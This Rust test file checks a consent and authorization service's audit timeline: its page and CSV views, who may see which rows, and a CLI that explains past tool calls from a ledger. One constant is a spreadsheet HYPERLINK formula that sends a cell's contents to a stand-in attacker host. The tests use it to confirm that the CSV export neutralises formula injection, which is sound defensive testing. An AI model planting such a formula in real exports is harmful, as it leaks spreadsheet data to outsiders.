//! What auditors see: the timeline as a page and as CSV, and a past call explained from the ledger.

use anyhow::{Context, Result, ensure};
use bailiwick_tests::{
    eventually,
    manifests::manifest,
    visitor::{Page, Visitor},
};
use serde_json::{Value, json};

use crate::{AGENT, CLIENT, JANE, REDIRECT, VERIFIER, World, challenge, text};

const AUDITOR: &str = "auditor@example.com";
const JOE: &str = "joe@example.com";
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"see\")";
/// Columns of the CSV in the order of a row's texts on the page.
const ON_PAGE: [&str; 13] = [
    "time",
    "outcome",
    "user",
    "agent",
    "client",
    "virtual_server",
    "level",
    "tools",
    "consent",
    "redirect_uri",
    "challenge",
    "actor",
    "reason",
];

/// Jane allowed twice, declined once and took one back, and Joe declined; the tokens of what she took back.
async fn history(world: &World) -> Result<Value> {
    for (name, group) in [(AUDITOR, "developers"), (JOE, "buyers")] {
        world.deployment.apply(&manifest("User", name, &format!("{{groups: [{group}]}}")))?;
    }
    let tokens = world.tokens(CLIENT, "transactional").await?;
    let consent = eventually("the consent's record", async || {
        let records = world.deployment.audit(&["--kind", "control.event", "--limit", "200"]).ok()?;
        let mut events = records.iter().map(|record| &record["control"]);
        let redeemed = events.find(|event| event["type"] == "code_redeemed")?;
        Some(text(redeemed, "consent").to_owned())
    })
    .await?;
    let (mut jane, page) = world.asked(CLIENT).await?;
    let narrowed = [("level", "retrieval"), ("only", "listed"), ("tool", "shop/read"), ("decision", "allow")];
    let page = world.answer(&mut jane, &page, &[&narrowed[..], &[("reason", FORMULA)]].concat()).await?;
    ensure!(page.parameter("code")?.is_some(), "{:?}", page.elsewhere);
    for person in [JANE, JOE] {
        let (mut visitor, page) = asked(world, person).await?;
        let page = world.answer(&mut visitor, &page, &[("decision", "deny"), ("reason", "not me")]).await?;
        ensure!(page.parameter("error")?.as_deref() == Some("access_denied"), "{:?}", page.elsewhere);
    }
    called(world, &tokens, "").await?;
    let consents = format!("{}/consents", world.issuer);
    let page = jane.go(&consents).await?;
    let page = jane.send(&consents, &[("token", &page.field("token")?), ("one", &consent)]).await?;
    ensure!(page.text.contains("One consent was taken back"), "{}", page.text);
    let about = eventually("all about one consent, up to its end", async || {
        let records = world.deployment.audit(&["--consent", &consent, "--limit", "200"]).ok()?;
        records.iter().any(|record| record["control"]["type"] == "consent_revoked").then_some(records)
    });
    for record in about.await? {
        ensure!(record["consent"] == *consent || record["control"]["consent"] == *consent, "{record}");
    }
    Ok(tokens)
}

async fn asked(world: &World, person: &str) -> Result<(Visitor, Page)> {
    let mut visitor = Visitor::new()?;
    let page = visitor.go(&world.authorize_url(&world.request(CLIENT))).await?;
    let page = visitor.sign_in(&page, person, &world.code).await?;
    Ok((visitor, page))
}

/// Calls until it ends for this reason; none: until it is permitted.
async fn called(world: &World, tokens: &Value, reason: &str) -> Result<()> {
    eventually("a call", async || {
        let answer = world.mcp(tokens).call("charge", json!({})).await.ok()?;
        (answer.reason() == reason && answer.body["result"].is_object() == reason.is_empty()).then_some(())
    })
    .await
}

/// Signed in, at the timeline.
async fn auditing(world: &World, person: &str) -> Result<(Visitor, Page)> {
    let mut visitor = Visitor::new()?;
    let page = visitor.go(&format!("{}/mcp/audit", world.issuer)).await?;
    let page = visitor.sign_in(&page, person, &world.code).await?;
    ensure!(page.status == 200 && page.url.ends_with("/mcp/audit"), "{} at {}:\n{}", page.status, page.url, page.text);
    Ok((visitor, page))
}

/// The texts of each row, as somebody reads them.
fn rows(page: &Page) -> Vec<Vec<String>> {
    let unescaped = |text: &str| {
        let marks = [("&#34;", "\""), ("&#39;", "'"), ("&#60;", "<"), ("&#62;", ">"), ("&#38;", "&")];
        marks.iter().fold(text.trim().to_owned(), |text, (escaped, mark)| text.replace(escaped, mark))
    };
    let texts = |row: &str| {
        let all = row.split('<').filter_map(|part| part.split_once('>')).map(|(_, text)| unescaped(text));
        all.filter(|text| !text.is_empty()).collect()
    };
    let all = page.text.split("<tr role=\"row\">").map(texts);
    all.filter(|row: &Vec<String>| row.first().is_some_and(|first| first.ends_with('Z'))).collect()
}

/// Outcome and user of each row.
fn told(page: &Page) -> Vec<(String, String)> {
    rows(page).into_iter().map(|row| (row[1].clone(), row[2].clone())).collect()
}

#[tokio::test]
async fn auditors_see_everybody_and_everybody_else_themselves() -> Result<()> {
    let world = World::start().await?;
    history(&world).await?;
    let own = |all: &[(&str, &str)]| -> Vec<_> {
        all.iter().map(|(outcome, user)| ((*outcome).to_owned(), (*user).to_owned())).collect()
    };
    let of_jane = [("declined", JANE), ("granted", JANE), ("redeemed", JANE), ("granted", JANE)];
    let (mut auditor, page) = auditing(&world, AUDITOR).await?;
    // The oldest is the administrator's, for the token that the world began with.
    let everything = [&[("revoked", JANE), ("declined", JOE)], &of_jane[..], &[("granted", JANE)]].concat();
    assert_eq!(told(&page), own(&everything), "{}", page.text);
    for (query, seen) in [
        ("outcome=declined", &[("declined", JOE), ("declined", JANE)][..]),
        ("outcome=revoked&client=editor", &[("revoked", JANE)]),
        ("client=bailiwick-admin", &[("granted", JANE)]),
        ("client=nobody", &[]),
        (&format!("subject={JOE}"), &[("declined", JOE)]),
        (&format!("subject={AGENT}&outcome=redeemed"), &[("redeemed", JANE)]),
        ("since=2020-01-01&until=2020-12-31", &[]),
        ("since=2020-01-01&outcome=redeemed", &[("redeemed", JANE)]),
    ] {
        let page = auditor.go(&format!("{}/mcp/audit?{query}", world.issuer)).await?;
        assert_eq!((page.status.as_u16(), told(&page)), (200, own(seen)), "{query}: {}", page.text);
    }
    let page = auditor.go(&format!("{}/mcp/audit?outcome=allowed", world.issuer)).await?;
    assert_eq!(page.status, 400);
    assert!(page.text.contains("There is no such outcome") && rows(&page).is_empty(), "{}", page.text);

    let (mut joe, page) = auditing(&world, JOE).await?;
    assert_eq!(told(&page), own(&[("declined", JOE)]));
    for query in ["subject=jane@example.com", "outcome=granted", "format=csv&client=nobody"] {
        let page = joe.go(&format!("{}/mcp/audit?{query}", world.issuer)).await?;
        assert!(!page.text.contains(&format!(">{JANE}<")) && rows(&page).is_empty(), "{query}: {}", page.text);
    }
    let csv = joe.go(&format!("{}/mcp/audit?format=csv", world.issuer)).await?;
    assert_eq!((csv.text.matches("\r\n").count(), csv.text.contains(JANE)), (2, false), "{}", csv.text);
    // Who is let into the group sees the rest, who leaves it does not; what they were before that signs in anew.
    for (group, count) in [("developers", everything.len()), ("buyers", 1)] {
        world.deployment.apply(&manifest("User", JOE, &format!("{{groups: [{group}]}}")))?;
        let page = joe.go(&format!("{}/mcp/audit", world.issuer)).await?;
        assert!(page.text.contains("Sign in") && rows(&page).is_empty(), "{group}: {}", page.text);
        let page = joe.sign_in(&page, JOE, &world.code).await?;
        assert_eq!(rows(&page).len(), count, "{group}");
    }
    Ok(())
}

#[tokio::test]
async fn nobody_sees_the_timeline_without_signing_in() -> Result<()> {
    let world = World::start().await?;
    let mut stranger = Visitor::new()?;
    let page = stranger.go(&format!("{}/mcp/audit?format=csv&client=editor", world.issuer)).await?;
    assert!(page.url.contains("/sign-in?return=%2Fmcp%2Faudit%3Fformat%3Dcsv%26client%3Deditor"), "{}", page.url);
    assert!(rows(&page).is_empty() && !page.text.contains("granted"), "{}", page.text);
    let page = stranger.sign_in(&page, JANE, &world.code).await?;
    assert_eq!(page.headers["content-type"], "text/csv; charset=utf-8; header=present", "{}", page.url);
    Ok(())
}

#[tokio::test]
async fn the_csv_is_what_the_page_shows_and_runs_nothing() -> Result<()> {
    let world = World::start().await?;
    history(&world).await?;
    let (mut auditor, page) = auditing(&world, AUDITOR).await?;
    let csv = auditor.go(&format!("{}/mcp/audit?format=csv", world.issuer)).await?;
    assert_eq!(csv.headers["content-disposition"], "attachment; filename=\"consent-timeline.csv\"");
    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
    let names: Vec<String> = reader.headers()?.iter().map(str::to_owned).collect();
    let column = |name: &str| names.iter().position(|known| known == name).with_context(|| name.to_owned());
    let records = reader.records().collect::<Result<Vec<_>, _>>()?;
    let reason = column("reason")?;
    let reasons: Vec<_> = records.iter().map(|row| &row[reason]).collect();
    assert!(reasons.contains(&format!("'{FORMULA}").as_str()), "{reasons:?}");
    for cell in records.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
    }
    let shown = |row: &csv::StringRecord| -> Result<Vec<String>> {
        let cells = ON_PAGE.iter().map(|name| Ok(row[column(name)?].to_owned()));
        let cells = cells.collect::<Result<Vec<_>>>()?.into_iter();
        let without_mark = |cell: String| cell.strip_prefix('\'').map(str::to_owned).unwrap_or(cell);
        Ok(cells.flat_map(|cell| cell.lines().map(str::to_owned).collect::<Vec<_>>()).map(without_mark).collect())
    };
    let shown = records.iter().map(shown).collect::<Result<Vec<_>>>()?;
    assert_eq!(shown, rows(&page));
    let narrowed = &records[reasons.iter().position(|one| one.contains("HYPERLINK")).context("it is there")?];
    let cells = ["outcome", "user", "agent", "client", "virtual_server", "level", "tools", "challenge", "redirect_uri"];
    let cells = cells.iter().map(|name| Ok(&narrowed[column(name)?])).collect::<Result<Vec<_>>>()?;
    let bound_to = challenge(VERIFIER);
    assert_eq!(cells, ["granted", JANE, AGENT, CLIENT, "shop", "retrieval", "shop/read", &bound_to, REDIRECT]);
    Ok(())
}

#[tokio::test]
async fn a_past_call_is_explained_from_the_ledger_alone() -> Result<()> {
    let world = World::start().await?;
    let tokens = history(&world).await?;
    called(&world, &tokens, "consent_revoked").await?;
    let id_of = async |kind: &str| {
        eventually(kind, async || {
            let records = world.deployment.audit(&["--kind", kind, "--tool", "charge"]).ok()?;
            records.first().map(|record| text(record, "request_id").to_owned())
        })
        .await
    };
    let permitted = id_of("call.intent").await?;
    let told = eventually("the whole story", async || {
        let told = world.deployment.cli_ok(&["explain", &permitted]).ok()?;
        (told.contains("taken back by the person") && told.contains("ended ok")).then_some(told)
    })
    .await?;
    for line in [
        "tools/call shop/charge (transactional) on shop: permitted, ended ok".to_owned(),
        format!("who       {JANE}, through {AGENT} (owner {JANE}) and client {CLIENT}"),
        "decided   permit by policy ".to_owned(),
        format!(" by user:{JANE}, until "),
        "for shop, up to transactional, all tools".to_owned(),
        "why       \"OPS-12\"".to_owned(),
        format!("evidence  code sent to {REDIRECT}, challenge {}", challenge(VERIFIER)),
        format!(" by user:{JANE}: \"taken back by the person\""),
    ] {
        assert!(told.contains(&line), "{line} is not in:\n{told}");
    }
    assert!(!told.contains("not found"), "{told}");

    let refused = id_of("call.denied").await?;
    let told: Value = serde_json::from_str(&world.deployment.cli_ok(&["explain", &refused, "-o", "json"])?)?;
    let call = &told["calls"][0];
    assert_eq!((text(&told, "request_id"), &call["decision"]["reason"]), (refused.as_str(), &json!("consent_revoked")));
    assert_eq!(call["who"]["user"], JANE);
    assert_eq!(call["consent"]["granted"]["by"], format!("user:{JANE}"));
    assert_eq!(call["consent"]["granted"]["reason"], "OPS-12");
    assert_eq!(call["consent"]["revoked"]["reason"], "taken back by the person");
    assert_eq!(call["not_found"], json!([]));

    let output = world.deployment.cli(&["explain", "no-such-request"])?;
    assert_eq!(output.status.code(), Some(1));
    let said = String::from_utf8(output.stderr)?;
    assert!(said.contains("has no call with the request id no-such-request"), "{said}");
    Ok(())
}
